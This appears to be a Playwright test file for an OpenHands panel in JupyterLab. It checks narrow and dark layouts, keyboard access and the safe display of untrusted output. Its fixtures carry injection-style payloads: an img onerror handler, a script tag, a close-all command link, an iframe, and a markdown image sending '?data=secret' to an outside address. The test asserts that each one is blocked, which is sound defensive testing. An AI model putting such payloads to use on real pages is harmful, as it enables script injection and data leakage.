"""A narrow panel in a dark theme, used by keyboard alone, with untrusted content in it."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

import pytest
from model_server import ModelServer, call
from playwright.sync_api import Page, expect
from ui.lab_server import LabServer
from ui.panel import SHORTCUT, Panel

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c636060f8cf500f0003860180"
        "5a347d6b0000000049454e44ae426082"
    )
).decode()
SCRIPTS = "/extensions/openhands-jupyter/static/"
ELSEWHERE = "http://127.0.0.1:9"
CELL = f"""\
from IPython.display import HTML, Image, Latex, display
import base64
display(Image(data=base64.b64decode("{PNG}"), format="png"))
display(HTML('''<table><tr><td>cell-of-a-table</td></tr></table>
<img src="{ELSEWHERE}/leak.png" onerror="document.title = 'taken'">
<script>document.title = "taken"</script>
<a href="#" data-commandlinker-command="application:close-all">close all</a>'''))
display(Latex("$x^2$"))
print("\\x1b[31mred\\x1b[0m")  # \u202e hidden
1 / 0
"""
MESSAGE = f"""\
Look at [the file](notes.txt), **done**. ![chart]({ELSEWHERE}/leak.png?data=secret)
<iframe src="{ELSEWHERE}/frame"></iframe>
"""

OVERFLOWING = """panel => {
    const edge = panel.getBoundingClientRect().right + 1;
    const clipped = element => {
        for (let e = element.parentElement; e && e !== panel; e = e.parentElement) {
            if (getComputedStyle(e).overflowX !== 'visible') return true;
        }
        return false;
    };
    return [...panel.querySelectorAll('*')]
        .filter(e => e.getBoundingClientRect().right > edge && !clipped(e))
        .map(e => e.className);
}"""


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_untrusted_content_in_a_narrow_panel(
    panel: Panel, lab: LabServer, model: ModelServer, theme: str
) -> None:
    elsewhere: list[str] = []
    panel.page.on(
        "request",
        lambda request: (
            elsewhere.append(request.url) if request.url.startswith(ELSEWHERE) else None
        ),
    )
    (lab.root / "notes.txt").write_text("a note")
    model.play(
        call("run_code", code=CELL),
        call(
            "edit_file", path="notes.txt", command="str_replace", old_str="note", new_str="remark"
        ),
        call(
            "update_plan",
            tasks=[{"title": "Look", "status": "done"}, {"title": "Say", "status": "in_progress"}],
        ),
        call("finish", message=MESSAGE),
    )
    panel.page.evaluate(
        "theme => window.jupyterapp.commands.execute('apputils:change-theme', {theme})", theme
    )
    panel.set_width(320)
    box = panel.root.bounding_box()
    assert box and abs(box["width"] - 320) <= 4, box
    panel.send("Show everything " + "withoutanyspace" * 20)
    panel.expect_state("Finished")
    for _ in range(2):
        assert panel.root.evaluate(OVERFLOWING) == []
        panel.log.evaluate("log => log.scrollTop = 0")
        panel.page.wait_for_timeout(500)

    cell = panel.action("Run Python code")
    expect(cell).to_contain_text("cell-of-a-table")
    expect(cell).to_contain_text("⟨U+202E⟩")
    expect(cell).to_contain_text("ZeroDivisionError")
    assert cell.locator("img").evaluate_all("images => images.map(i => i.naturalWidth)") == [1]
    expect(cell.locator("mjx-container")).to_have_count(1)
    expect(cell.locator("[data-commandlinker-command]")).to_have_count(0)
    panel.page.screenshot(path=_results() / f"narrow-{theme.split()[-1].lower()}.png")

    panel.root.get_by_role("button", name="Newest").click()
    edit = panel.action("Edit notes.txt")
    expect(edit.locator(".cm-deletedChunk")).to_contain_text("a note")
    expect(edit.locator(".cm-content")).to_contain_text("a remark")
    plan = panel.root.get_by_role("region", name="Plan")
    expect(plan).to_contain_text("Plan: 1 of 2 done · Say")
    result = panel.log.get_by_role("article", name="Result")
    expect(result.locator("iframe, img")).to_have_count(0)
    link = result.get_by_role("link", name="chart")
    assert "noopener" in (link.get_attribute("rel") or "")
    result.get_by_role("link", name="the file").click()
    expect(panel.page.get_by_role("tab", name="notes.txt")).to_be_visible()
    assert elsewhere == []
    assert panel.page.title() != "taken"


def test_everything_by_keyboard(tour: None, open_page: Callable[..., Page], lab: LabServer) -> None:
    (lab.root / "old.tmp").write_text("x")
    page = open_page()
    panel = Panel(page)
    # Before it is opened, the panel costs nothing: no request, no code.
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.reload()
    page.locator(".jp-LauncherCard").first.wait_for(timeout=60_000)
    assert [url for url in requests if SCRIPTS in url]
    assert not [url for url in requests if "/openhands/api" in url]
    requests.clear()
    commands = page.evaluate(
        """() => window.jupyterapp.commands.listCommands()
            .filter(id => id.startsWith('openhands:'))"""
    )
    assert {"openhands:open", "openhands:new-session", "openhands:stop"} <= set(commands)

    page.locator(".jp-LauncherCard").first.focus()
    page.keyboard.press(SHORTCUT)
    expect(panel.composer).to_be_focused()
    assert [url for url in requests if SCRIPTS in url]
    page.keyboard.type("Delete the temporary")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("files here")
    page.keyboard.press("Enter")
    announced = panel.root.get_by_role("status").filter(has_text="asks for approval")
    expect(announced).to_contain_text("Run a command")
    # The card takes the focus only when it is asked to: whoever types goes on typing.
    expect(panel.composer).to_be_focused()
    page.keyboard.press(SHORTCUT)
    expect(panel.card).to_be_focused()
    approve = panel.card.get_by_role("button", name="Approve")
    for _ in range(5):
        page.keyboard.press("Tab")
        if approve.evaluate("button => button === document.activeElement"):
            break
    expect(approve).to_be_focused()
    assert approve.evaluate("button => getComputedStyle(button).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    expect(panel.card).to_have_count(0)
    expect(panel.composer).to_be_focused()
    panel.expect_state("Finished")
    assert not (lab.root / "old.tmp").exists()

    unnamed = panel.root.evaluate(
        """panel => [...panel.querySelectorAll('button, input, textarea, select, [role=group]')]
            .filter(e => !(e.getAttribute('aria-label') || e.innerText.trim() || e.labels?.length))
            .map(e => e.outerHTML)"""
    )
    assert unnamed == []


def _results() -> Path:
    folder = Path("test-results")
    folder.mkdir(exist_ok=True)
    return folder
